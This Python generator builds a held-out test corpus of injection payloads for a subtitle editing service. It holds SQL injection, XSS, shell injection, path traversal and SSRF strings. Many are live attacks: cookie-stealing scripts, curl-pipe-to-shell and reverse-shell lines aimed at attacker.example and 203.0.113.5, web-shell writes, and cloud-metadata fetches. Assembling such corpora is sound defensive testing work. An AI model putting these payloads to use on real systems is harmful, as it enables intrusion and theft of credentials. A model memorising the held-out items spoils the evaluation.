"""Attack corpus for the subtitle/caption editing service (held out, never tuned on).

Each value is a payload that would work against a vulnerable version of the service that
puts the field where the class says: concatenated into SQL (cue search, style lookup),
rendered unescaped in the cue preview (HTML), pasted into a shell line (ffmpeg/mkvmerge
conversions), joined to a file path (subtitle/font storage), fetched as a URL (import
from URL, HLS/DASH manifests), evaluated as a template/expression/XML/serialized object
(export templates, TTML/DFXP import, project files, CSV export), merged into a Mongo
filter, written into a header/log/mail, or put into an LDAP filter / XPath query.

The class is "<context>-<technique>[+<encoding>]". Contexts name the subtitle field the
payload hides in (srt, vtt, ass, cue-text, search, filename, offset, fps, style, note,
import-url, ttml, export-csv ...); "plain-" marks bare payloads with no domain wrapper.

All payloads were hand-written for this corpus from an understanding of each technique.
A small template step re-encodes a hand-written base pool (URL once/twice, HTML
entities, unicode escapes); those are counted as computed, not literals.
Attacker infrastructure: attacker.example, *.attacker.example, 203.0.113.0/24,
198.51.100.0/24. Secrets are fake placeholders.

Output: attacks.jsonl next to this file. Deterministic (fixed SEED, lists only).
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8502
PREFIX = "ha85"

# --------------------------------------------------------------------------------------
# sqli: cue search (LIKE '%..%'), cue id / offset (numeric), style name, language code
# --------------------------------------------------------------------------------------
SQLI = [
    ("search-union-select", "door slams%' UNION SELECT username, password_hash, NULL FROM users-- -"),
    ("search-union-select", "♪%' union all select email,api_token,3,4 from accounts where '1%'='1"),
    ("search-boolean-tautology", "where's the%' OR '1'='1"),
    ("search-boolean-blind", "(sighs)%' AND SUBSTRING((SELECT password_hash FROM users WHERE id=1),1,1)='a' AND '%'='"),
    ("search-time-mysql-sleep", "it's 5 o'clock%' AND SLEEP(6)-- "),
    ("search-time-pg-sleep", "c'est la vie%'; SELECT pg_sleep(8)--"),
    ("search-time-mssql-waitfor", "Je t'aime%'; WAITFOR DELAY '0:0:7'--"),
    ("search-time-sqlite-randomblob", "[music]%' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("search-time-benchmark", "red alert%' AND BENCHMARK(40000000,SHA1('subs'))#"),
    ("search-error-extractvalue", "{\\an8}%' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -"),
    ("search-error-updatexml", "(laughs)' AND UPDATEXML(NULL,CONCAT(0x3a,(SELECT user())),NULL)-- x"),
    ("search-error-pg-cast", "O'Brien' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("search-error-mssql-convert", "Grüß Gott' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.sql_logins))--"),
    ("search-stacked-drop", "drop the gun'; DROP TABLE cues;--"),
    ("search-stacked-update", "[door slams]'; UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--"),
    ("search-stacked-insert", "x'; INSERT INTO api_keys(user_id,token) VALUES (1,'FAKE-TOKEN-0000');--"),
    ("search-oob-load-file", "sleep%' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM users LIMIT 1),'.oob.attacker.example\\\\a')),2-- -"),
    ("search-oob-xp-dirtree", "'; EXEC master..xp_dirtree '\\\\203.0.113.7\\subs\\x';--"),
    ("search-oob-pg-copy", "'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/$(whoami)';--"),
    ("search-file-write-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/subs/c.php'-- -"),
    ("search-union-select+comment-space", "¿por qué?'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/users--"),
    ("search-union-schema+case-mix", "l'amour' uNiOn SeLeCt NuLl,TaBlE_NaMe FrOm InFoRmAtIoN_sChEmA.tAbLeS-- -"),
    ("search-schema-enum-sqlite", "%' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("search-schema-enum-pg", "%' UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_schema='public'--"),
    ("search-union-select+hex", "%' UNION SELECT 1,password_hash FROM users WHERE email=0x61646d696e406578616d706c652e636f6d-- -"),
    ("search-char-function", "%' OR text=CHAR(97,100,109,105,110)-- -"),
    ("search-concat-no-space", "'||(SELECT(password_hash)FROM(users)LIMIT(1))||'"),
    ("search-like-wildcard-bypass", "%' OR title LIKE '%"),
    ("search-backslash-escape", "don't \\' OR 1=1 -- "),
    ("search-mysql-versioned-comment", "ep01' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(email) FROM users-- -"),
    ("search-order-by-probe", "%' ORDER BY 7-- -"),
    ("search-having-error", "' HAVING 1=1--"),
    ("search-json-operator-pg", "' OR (settings->>'is_admin')::boolean -- "),
    ("search-scalar-subquery-case", "' AND (SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>0 THEN 1/(SELECT 0) ELSE 1 END)=1--"),
    ("srt-cue-text-stacked", "12\n00:01:02,500 --> 00:01:04,000\nWe'll see'); DELETE FROM projects WHERE ('1'='1"),
    ("srt-cue-text-insert-subquery", "13\n00:01:04,100 --> 00:01:06,000\nFine', (SELECT password_hash FROM users WHERE id=1))-- "),
    ("srt-cue-index-numeric", "0 OR 1=1\n00:00:01,000 --> 00:00:02,000\nhi"),
    ("srt-timestamp-union", "00:00:01,000 --> 00:00:02,000' UNION SELECT token FROM sessions--"),
    ("vtt-cue-id-union", "intro' UNION SELECT api_token FROM accounts--\n00:00:00.000 --> 00:00:02.000\n<c.yellow>Previously...</c>"),
    ("vtt-note-stacked", "NOTE checked'); UPDATE projects SET owner_id=666 WHERE ('a'='a"),
    ("cue-id-numeric-union", "42 UNION SELECT id,email,password_hash,NULL FROM users"),
    ("cue-id-numeric-boolean", "118 AND 1=1"),
    ("cue-id-numeric-time", "118 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("cue-id-numeric-subquery", "(SELECT id FROM cues ORDER BY (CASE WHEN (SELECT substr(password_hash,1,1) FROM users LIMIT 1)='$' THEN 1 ELSE 1/0 END) LIMIT 1)"),
    ("offset-numeric-expression", "1500-(SELECT COUNT(*) FROM users)"),
    ("offset-numeric-time-pg", "+1.5; SELECT pg_sleep(10)"),
    ("fps-numeric-boolean", "23.976 OR 1=1"),
    ("sort-column-injection", "start_ms,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)"),
    ("sort-direction-injection", "ASC, (SELECT 1 FROM pg_sleep(5))"),
    ("limit-injection", "50 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("style-name-union", "Default' UNION SELECT fontname, password_hash FROM users-- "),
    ("style-name-boolean", "Signs (top)' OR 'x'='x"),
    ("ass-style-line-injection", "Style: Default',(SELECT group_concat(email) FROM users),'x,Arial,48,&H00FFFFFF,&H000000FF,&H00000000,&H80000000,0,0,0,0,100,100,0,0,1,2,1,2,20,20,30,1"),
    ("ass-dialogue-text-stacked", "Dialogue: 0,0:00:01.50,0:00:04.00,Default,,0,0,0,,Hi'); DROP TABLE styles;--"),
    ("lang-code-union", "en-US' UNION SELECT secret FROM app_settings-- -"),
    ("lang-code-boolean", "fr' AND '1'='1"),
    ("filename-stacked", "ep01'); DROP TABLE uploads;--.srt"),
    ("filename-union", "movie.en' UNION SELECT 1,file_path FROM uploads WHERE owner_id<>1-- .srt"),
    ("note-insert-subquery", "TN: kept the pun' || (SELECT password_hash FROM users WHERE role='admin') || '"),
    ("speaker-label-union", "ANNA' UNION SELECT username||':'||password_hash FROM users--"),
    ("dialogue-quote-breakout", "Ma'am, step away' OR 1=1 LIMIT 1 OFFSET 3-- "),
    ("dialogue-multilang-union", "「また明日ね」' UNION SELECT api_token,2 FROM accounts-- -"),
    ("search-double-quote-breakout", "\"I'll be back\"\" OR \"\"=\""),
    ("search-mssql-char-concat", "x'+CHAR(59)+'EXEC xp_cmdshell ''ping 203.0.113.9'';--"),
    ("search-oracle-union-dual", "' UNION SELECT username, password FROM all_users, dual WHERE ROWNUM=1--"),
    ("search-oracle-http-oob", "' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("search-mysql-into-dumpfile", "' UNION SELECT 0x3c3f70687020706870696e666f28293b203f3e INTO DUMPFILE '/var/www/html/s.php'-- -"),
    ("search-sqlite-attach", "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t(c text); INSERT INTO x.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("plain-tautology", "' OR 1=1-- -"),
    ("plain-union-null", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-time-sleep", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-admin-comment", "admin'--"),
    ("plain-stacked-waitfor", "1;WAITFOR DELAY '0:0:5'--"),
    ("plain-union-version", "0 UNION SELECT @@version"),
]

# --------------------------------------------------------------------------------------
# xss: cue preview renders the cue text / style / speaker as HTML without escaping
# --------------------------------------------------------------------------------------
XSS = [
    ("srt-cue-img-onerror", "5\n00:00:15,000 --> 00:00:17,500\n<i>Meanwhile...</i><img src=x onerror=alert(document.domain)>"),
    ("srt-cue-svg-onload", "6\n00:00:18,000 --> 00:00:20,000\n<svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("srt-cue-script-tag", "7\n00:00:20,100 --> 00:00:22,000\n<script>new Image().src='https://attacker.example/l?c='+encodeURIComponent(document.cookie)</script>"),
    ("srt-cue-font-attr-breakout", "8\n00:00:22,500 --> 00:00:24,000\n<font color=\"#ffff00\" onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">Red alert!</font>"),
    ("srt-cue-font-color-quote-break", "<font color=\"red\"><img src=1 onerror=alert(origin) x=\"\">Hello</font>"),
    ("srt-cue-details-ontoggle", "9\n00:00:25,000 --> 00:00:27,000\n<details open ontoggle=alert(document.cookie)><summary>[door slams]</summary></details>"),
    ("srt-cue-iframe-srcdoc", "10\n00:00:27,000 --> 00:00:29,000\n<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("srt-cue-italic-nested-onerror", "<i>♪ La la la <b><img/src/onerror=alert`1`></b> ♪</i>"),
    ("srt-cue-anchor-javascript", "<a href=\"javascript:alert(document.domain)\">Click for translator notes</a>"),
    ("srt-cue-anchor-javascript+html-entities", "<a href=\"jav&#x09;ascript:alert(1)\">[subtitles by Night Owl]</a>"),
    ("srt-cue-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("srt-cue-title-breakout", "</title><svg/onload=alert(1)>"),
    ("srt-cue-style-breakout", "</style><img src=x onerror=alert(1)>"),
    ("srt-cue-body-onload", "<body onload=alert('xss')>"),
    ("srt-cue-video-onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("srt-cue-audio-src-onerror", "[music] <audio src=x onerror=alert(1)>"),
    ("srt-cue-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("srt-cue-marquee-onstart", "<marquee onstart=alert(1)>♪ ♪ ♪</marquee>"),
    ("srt-cue-object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("srt-cue-embed-src", "<embed src=\"javascript:alert(1)\">"),
    ("srt-cue-form-action", "<form action=\"javascript:alert(1)\"><button>Save cue</button></form>"),
    ("srt-cue-math-href", "<math><mtext><a xlink:href=\"javascript:alert(1)\">click</a></mtext></math>"),
    ("srt-cue-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("srt-cue-svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>[phone rings]</text></a></svg>"),
    ("srt-cue-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("srt-cue-base-href", "<base href=\"https://attacker.example/\">"),
    ("srt-cue-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("srt-cue-svg-style-mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("srt-cue-pointer-event", "<b onpointerover=alert(document.domain)>DROP the gun! Now!</b>"),
    ("srt-cue-css-animation", "<style>@keyframes k{}</style><u style=\"animation-name:k\" onanimationstart=alert(1)>x</u>"),
    ("srt-cue-img-srcset", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("vtt-voice-attr-breakout", "00:01:02.500 --> 00:01:04.000\n<v Anna\" onmouseover=\"alert(1)>Are you coming?</v>"),
    ("vtt-class-breakout", "00:00:00.000 --> 00:00:02.000\n<c.yellow\"><img src=x onerror=alert(1)>Previously...</c>"),
    ("vtt-style-block-breakout", "STYLE\n::cue { color: #fff; }\n</style><script>alert(document.domain)</script>"),
    ("vtt-note-script", "NOTE <script>fetch('https://attacker.example/n',{method:'POST',body:localStorage.getItem('token')})</script>"),
    ("vtt-ruby-onerror", "00:10:00.000 --> 00:10:03.000\n<ruby>漢字<rt><img src=x onerror=alert(1)></rt></ruby>"),
    ("vtt-lang-attr-breakout", "00:03:03.300 --> 00:03:05.000\n<lang fr\"><svg onload=alert(1)>Bonjour</lang>"),
    ("vtt-region-id-breakout", "REGION\nid:bill\"><img src=x onerror=alert(1)>\nwidth:40%"),
    ("vtt-header-title", "WEBVTT <img src=x onerror=alert(1)>\nKind: captions"),
    ("ass-style-name-breakout", "Style: \"><svg onload=alert(1)>,Arial,48,&H00FFFFFF,&H000000FF,&H00000000,&H80000000,0,0,0,0,100,100,0,0,1,2,1,2,20,20,30,1"),
    ("ass-override-fontname", "{\\fn\"><img src=x onerror=alert(1)>}Hello"),
    ("ass-dialogue-text-script", "Dialogue: 0,0:00:01.50,0:00:04.00,Default,,0,0,0,,<script>alert(1)</script>"),
    ("style-name-attr-breakout", "Default\" autofocus onfocus=\"alert(document.domain)"),
    ("speaker-label-breakout", "NARRATOR (V.O.):</span><img src=x onerror=alert(1)>"),
    ("filename-attr-breakout", "ep01\"><img src=x onerror=alert(document.cookie)>.srt"),
    ("filename-svg-upload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
    ("note-js-string-breakout", "TN: \"break a leg\"';alert(document.domain);//"),
    ("note-js-template-literal", "${alert(document.domain)}"),
    ("note-json-script-breakout", "</script><script>alert(1)</script>"),
    ("search-reflected-script", "\"><script>alert(document.domain)</script>"),
    ("search-reflected-attr-single", "' autofocus onfocus='alert(1)"),
    ("search-reflected-js-string", "\\';alert(1);//"),
    ("search-angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("search-vue-template", "{{_c.constructor('alert(1)')()}}"),
    ("dialogue-quote-svg", "He said \"never\".<svg/onload=alert(1)>"),
    ("dialogue-multilang-img", "¿Dónde estabas?<img src=x onerror=alert('¡hola!')>"),
    ("sound-desc-onerror", "[glass shatters]<img src=/ onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("sound-desc-iframe-js", "[phone buzzing]<iframe src=javascript:alert(1)>"),
    ("ttml-span-script", "<tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p begin=\"00:00:01.000\" end=\"00:00:02.000\"><span><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></span></p></div></body></tt>"),
    ("import-url-javascript", "javascript:alert(document.domain)//.vtt"),
    ("import-url-data-html", "data:text/html,<script>alert(1)</script>"),
    ("thumbnail-url-attr-breakout", "https://cdn.example/thumb.jpg\" onerror=\"alert(1)"),
    ("srt-cue-settimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("srt-cue-no-parens", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("srt-cue-img-onerror+unicode-escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("srt-cue-img-onerror+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("srt-cue-script-tag+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("srt-cue-slash-separator", "<svg/onload=alert(1)//"),
    ("srt-cue-newline-attr", "<img\nsrc=x\nonerror=alert(1)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-iframe-js", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
]

# --------------------------------------------------------------------------------------
# cmdi: ffmpeg / mkvmerge / converters called through a shell with the field inline
# --------------------------------------------------------------------------------------
CMDI = [
    ("filename-semicolon", "ep01.srt; id"),
    ("filename-semicolon-curl-sh", "Harbour.Lights.S02E07.en.srt;curl -s http://attacker.example/s.sh|sh"),
    ("filename-dollar-paren", "$(curl -fsSL attacker.example/x | bash).srt"),
    ("filename-backtick", "`wget -qO- 203.0.113.5/p|sh`.vtt"),
    ("filename-pipe-nc", "movie.en.srt | nc 203.0.113.5 4444 -e /bin/sh"),
    ("filename-and-chain", "subs.zip && cat /etc/passwd > /var/www/html/subs/p.txt"),
    ("filename-or-chain", "missing.srt || bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),
    ("filename-newline", "ep02.srt\nid > /tmp/owned"),
    ("filename-ifs-space", "ep03.srt;cat${IFS}/etc/passwd"),
    ("filename-brace-expansion", "ep04.vtt;{cat,/etc/shadow}"),
    ("filename-quote-breakout", "episode 3 - final (v2)'; uname -a; echo '.ass"),
    ("filename-dquote-breakout", "Ep 5 \"; sleep 10; echo \".srt"),
    ("filename-process-substitution", "ep06.srt <(curl attacker.example/x)"),
    ("filename-redirect-write", "ep07.srt > /var/www/html/index.html"),
    ("filename-argument-injection-ffmpeg", "-f lavfi -i color=c=black -vf drawtext=textfile=/etc/passwd out.mp4 -y x.srt"),
    ("filename-argument-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh payload.sh"),
    ("filename-argument-injection-zip", "subs.zip ep01.srt -T -TT 'sh -c id>/tmp/z #'"),
    ("filename-wildcard-obfuscation", "ep08.srt;/???/?at /???/p?ss??"),
    ("filename-semicolon+quote-split", "ep09.srt;w'h'o\"a\"mi"),
    ("filename-backslash-splitting", "ep10.srt;c\\at /e\\tc/pa\\sswd"),
    ("filename-semicolon-sh+base64", "ep11.srt;echo aWQ7dW5hbWUgLWE=|base64 -d|sh"),
    ("filename-hex-printf", "ep12.srt;$(printf '\\x69\\x64')"),
    ("filename-env-substring", "ep13.srt;${PATH:0:1}bin${PATH:0:1}id"),
    ("filename-windows-ampersand", "promo_30s.mov & whoami"),
    ("filename-windows-pipe-powershell", "promo.mov | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("filename-windows-comspec", "subs.srt&%COMSPEC% /c type C:\\Windows\\win.ini"),
    ("filename-windows-ampersand+caret-escape", "subs.srt & w^h^o^a^m^i"),
    ("offset-semicolon", "+1.5; id"),
    ("offset-subshell", "-0.250$(sleep 9)"),
    ("offset-backtick", "1.5`touch /tmp/x`"),
    ("offset-newline-curl", "2.5\ncurl http://attacker.example/$(hostname)"),
    ("offset-itsoffset-arg", "1 -i /etc/passwd -map 1 -c copy -f data -y /tmp/leak"),
    ("fps-semicolon", "23.976;ping -c 3 203.0.113.9"),
    ("fps-pipe", "25|id"),
    ("fps-dollar-paren-dns", "29.97$(nslookup $(whoami).oob.attacker.example)"),
    ("fps-ratio-and", "30000/1001 && id"),
    ("font-name-fc-match", "Arial'; curl attacker.example/f | sh; echo '"),
    ("style-name-shell", "Default\";id;\""),
    ("lang-code-mkvmerge", "eng --attach-file /etc/passwd --language 0:eng"),
    ("track-name-mkvmerge", "English SDH\"; rm -rf /tmp/*; echo \""),
    ("drawtext-filter-escape", "Hello':enable=1,drawtext=textfile=/etc/passwd:x=10:y=10:text='x"),
    ("subtitles-filter-filename", "ep.srt:force_style='Fontsize=24',movie=/etc/passwd[leak];[leak]null"),
    ("srt-cue-text-burnin", "1\n00:00:01,000 --> 00:00:03,000\n$(id)"),
    ("srt-cue-text-backtick", "2\n00:00:03,000 --> 00:00:05,000\n`cat /etc/hostname`"),
    ("vtt-note-shell", "NOTE ok'; nc -e /bin/sh 203.0.113.5 9001; echo '"),
    ("ass-title-shell", "Title: Episode 12 -- $(curl -d @/etc/passwd attacker.example)"),
    ("note-perl-exec", "TN: fine;perl -e 'system(\"id\")'"),
    ("note-python-exec", "TN';python3 -c 'import os;os.system(\"id\")';'"),
    ("search-grep-injection", "don't' /etc/passwd; echo '"),
    ("search-grep-option", "-e x -f /etc/shadow"),
    ("search-find-exec", "*.srt -exec sh -c id \\;"),
    ("dialogue-subshell", "Who's there? $(whoami)"),
    ("dialogue-espeak-tts", "Bonjour'; curl 198.51.100.20/t -o /tmp/t; sh /tmp/t; echo '"),
    ("import-url-curl-arg", "https://cdn.example/sub.vtt -o /var/www/html/shell.php"),
    ("import-url-curl-config", "-K /etc/passwd https://cdn.example/a.vtt"),
    ("import-url-wget-post-file", "http://cdn.example/a.srt --post-file=/etc/passwd http://attacker.example/"),
    ("youtube-dl-exec-option", "https://video.example/watch?v=abc --exec 'curl attacker.example/$(id|base64)'"),
    ("filename-tab-separator", "ep14.srt;\tcat\t/etc/passwd"),
    ("filename-sleep-blind", "ep15.srt;sleep 11"),
    ("filename-time-ping", "ep16.srt|ping -n 11 127.0.0.1"),
    ("filename-dns-exfil", "ep17.srt;dig $(cat /etc/hostname).dns.attacker.example"),
    ("filename-cron-write", "ep18.srt;echo '* * * * * root curl attacker.example/c|sh' > /etc/cron.d/subs"),
    ("plain-semicolon-id", ";id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`id`"),
    ("plain-and-whoami", "&& whoami"),
    ("plain-newline-id", "\nid\n"),
    ("plain-or-sleep", "|| sleep 10"),
    ("plain-windows-type", "& type C:\\Windows\\win.ini"),
]

# --------------------------------------------------------------------------------------
# traversal: subtitle / font / project storage paths built from the field
# --------------------------------------------------------------------------------------
TRAVERSAL = [
    ("filename-dotdot-passwd", "../../../../etc/passwd"),
    ("filename-dotdot-nullbyte+urlenc", "../../../../../etc/shadow%00.srt"),
    ("filename-dotdot-nullbyte", "../../../../etc/passwd\u0000.vtt"),
    ("filename-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("filename-windows-mixed", "..\\../..\\../boot.ini"),
    ("filename-absolute-unix", "/etc/passwd"),
    ("filename-absolute-proc-environ", "/proc/self/environ"),
    ("filename-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("filename-unc-share", "\\\\203.0.113.5\\share\\ep01.srt"),
    ("filename-nested-dotdot", "....//....//....//etc/passwd"),
    ("filename-nested-dotdot-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("filename-dotdot-app-config", "../../config/settings.py"),
    ("filename-dotdot-env", "../../../.env"),
    ("filename-dotdot-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("filename-dotdot-git-config", "../../.git/config"),
    ("filename-dotdot-nginx-conf", "../../../../etc/nginx/nginx.conf"),
    ("filename-dotdot-proc-cmdline", "../../../../proc/self/cmdline"),
    ("filename-dotdot-subdir-prefix", "subs/en/../../../../../etc/hosts"),
    ("filename-dot-slash-padding", "./././../../../../etc/passwd"),
    ("filename-trailing-dot-windows", "..\\..\\..\\web.config."),
    ("filename-show-prefix-dotdot", "Harbour.Lights.S02E07/../../../../etc/group"),
    ("project-id-dotdot", "proj_4821/../../proj_1/export.srt"),
    ("user-dir-dotdot", "../other_user/private/contract.pdf"),
    ("zip-entry-slip", "subs.zip!/../../../../var/www/html/shell.php"),
    ("zip-entry-slip-listing", "Archive: subs.zip\n  ../../../../home/app/.bashrc\n  ep01.srt"),
    ("ass-fontfile-dotdot", "[Fonts]\nfontname: ../../../../etc/passwd"),
    ("ass-attachment-path", "[Graphics]\nfilename: ../../../../../proc/self/environ"),
    ("vtt-style-import", "STYLE\n@import url(\"../../../../etc/passwd\");"),
    ("ttml-image-src", "<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:smpte=\"http://www.smpte-ra.org/schemas/2052-1/2010/smpte-tt\"><head><metadata><smpte:image imagetype=\"PNG\" encoding=\"Base64\" xml:id=\"i1\" src=\"../../../../etc/passwd\"/></metadata></head></tt>"),
    ("template-name-dotdot", "../../templates/admin/dashboard.html"),
    ("lang-code-dotdot", "../../../../../etc/passwd"),
    ("lang-code-locale-file", "en/../../../../../etc/issue"),
    ("style-preset-dotdot", "Netflix-ish/../../../../var/log/nginx/access.log"),
    ("thumbnail-path-dotdot", "thumbs/ep01/../../../../../../etc/passwd#.jpg"),
    ("download-param-dotdot", "download?file=../../../../etc/passwd"),
    ("file-uri-scheme", "file:///etc/passwd"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-dotdot-win", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-dotdot-hosts", "../../../../../etc/hosts"),
    ("plain-dotdot-ini-slash", "../../../../windows/system.ini"),
    ("filename-dotdot-long-chain", "../../../../../../../../../../../../etc/passwd"),
    ("filename-dotdot-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("filename-dotdot-aws-creds", "../../../../home/app/.aws/credentials"),
    ("filename-dotdot-semicolon-tomcat", "..;/..;/WEB-INF/web.xml"),
    ("filename-dotdot+fullwidth-slash", "..／..／..／etc／passwd"),
]

# --------------------------------------------------------------------------------------
# ssrf: "import subtitles from URL", manifest and thumbnail URLs fetched server side
# --------------------------------------------------------------------------------------
SSRF = [
    ("import-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-aws-imdsv1-userdata", "http://169.254.169.254/latest/user-data#ep01.srt"),
    ("import-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json&subs=ep01.vtt"),
    ("import-url-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("import-url-localhost-admin", "http://localhost:8080/admin/users.srt"),
    ("import-url-loopback-short", "http://127.1/server-status"),
    ("import-url-zero-host", "http://0:8000/internal/config"),
    ("import-url-all-zero", "http://0.0.0.0:9200/_cat/indices?format=srt"),
    ("import-url-ipv6-loopback", "http://[::1]:6379/"),
    ("import-url-ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("import-url-redis-gopher", "gopher://127.0.0.1:6379/_SET%20subs%20pwned%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0A"),
    ("import-url-memcached-gopher", "gopher://127.0.0.1:11211/_stats%0d%0a"),
    ("import-url-dict-scheme", "dict://127.0.0.1:6379/INFO"),
    ("import-url-file-scheme", "file:///etc/passwd#.srt"),
    ("import-url-file-windows", "file:///C:/Windows/win.ini"),
    ("import-url-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("import-url-kubelet", "https://127.0.0.1:10250/pods"),
    ("import-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("import-url-consul", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import-url-elasticsearch", "http://10.0.0.12:9200/_search?q=*"),
    ("import-url-private-range", "http://192.168.0.1/cgi-bin/config.exp"),
    ("import-url-userinfo-confusion", "http://cdn.example.com@127.0.0.1:8080/admin/ep01.srt"),
    ("import-url-fragment-confusion", "http://127.0.0.1:8080#@cdn.example.com/ep01.srt"),
    ("import-url-backslash-confusion", "http://cdn.example.com\\@169.254.169.254/latest/meta-data/"),
    ("import-url-redirect-chain", "https://redirect.attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("import-url-dns-rebind", "http://a9fea9fe.7f000001.rebind.attacker.example/latest/meta-data/"),
    ("import-url-wildcard-dns", "http://169.254.169.254.nip.attacker.example/latest/meta-data/"),
    ("import-url-localhost-subdomain", "http://localhost.attacker.example:8080/internal/ep01.vtt"),
    ("hls-manifest-file-uri", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST"),
    ("hls-manifest-concat-protocol", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nconcat:http://203.0.113.8/header.y4m|file:///etc/passwd\n#EXT-X-ENDLIST"),
    ("hls-manifest-metadata-uri", "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttp://169.254.169.254/latest/meta-data/iam/security-credentials/\n#EXT-X-ENDLIST"),
    ("hls-subtitle-media-uri", "#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID=\"subs\",NAME=\"English\",URI=\"http://127.0.0.1:8080/admin/export.m3u8\""),
    ("dash-mpd-baseurl", "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><BaseURL>http://169.254.169.254/latest/meta-data/</BaseURL><Period><AdaptationSet mimeType=\"text/vtt\"><Representation id=\"en\" bandwidth=\"256\"/></AdaptationSet></Period></MPD>"),
    ("ttml-image-external", "<tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p begin=\"0s\" end=\"2s\"><span backgroundImage=\"http://127.0.0.1:9000/minio/admin/v3/info\"/></p></div></body></tt>"),
    ("vtt-style-import-url", "STYLE\n@import url(\"http://169.254.169.254/latest/meta-data/\");"),
    ("thumbnail-url-internal", "http://10.0.0.5:8080/actuator/env"),
    ("webhook-url-internal", "http://127.0.0.1:5000/api/admin/reset?confirm=yes"),
